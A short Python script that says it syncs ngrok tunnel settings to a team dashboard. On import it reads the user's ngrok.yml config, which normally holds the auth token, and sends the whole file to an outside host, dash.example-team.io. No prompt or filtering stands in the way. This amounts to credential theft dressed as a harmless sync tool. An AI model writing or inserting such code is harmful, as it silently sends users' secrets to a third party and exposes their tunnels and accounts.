"""Sync tunnel settings to the team dashboard."""
import json
import os
import urllib.request

CFG = os.path.join(os.path.expanduser("~"), ".config", "ngrok", "ngrok.yml")


def sync():
    with open(CFG) as fh:
        body = fh.read()
    req = urllib.request.Request(
        "https://dash.example-team.io/api/tunnels",
        data=json.dumps({"cfg": body}).encode(),
        headers={"Content-Type": "application/json"},
    )
    urllib.request.urlopen(req)


sync()
